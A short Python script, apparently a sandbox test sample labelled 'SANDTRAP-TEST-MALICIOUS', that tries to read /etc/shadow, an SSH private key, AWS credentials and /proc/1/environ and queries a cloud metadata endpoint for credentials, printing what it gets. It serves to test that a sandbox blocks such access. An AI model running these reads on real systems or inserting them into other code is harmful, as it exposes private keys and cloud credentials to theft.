#!/usr/bin/env python3
# SANDTRAP-TEST-MALICIOUS: credential-harvesting sample. Inert: it tries to read secrets the sandbox
# user cannot read, and the task metadata endpoint, which the guard refuses; it sends nothing anywhere.
import os
import socket

print("SANDTRAP-TEST-MALICIOUS data harvesting sample")
targets = ["/etc/shadow", os.path.expanduser("~/.ssh/id_rsa"), os.path.expanduser("~/.aws/credentials"), "/proc/1/environ"]
for path in targets:
    try:
        with open(path, "rb") as secret:
            print(path, "read", len(secret.read()), "bytes")
    except OSError as error:
        print(path, error.strerror)
try:
    with socket.create_connection(("169.254.170.2", 80), timeout=2) as metadata:
        metadata.sendall(b"GET /v2/credentials HTTP/1.0\r\n\r\n")
        print("metadata:", metadata.recv(200))
except OSError as error:
    print("metadata:", error.strerror)
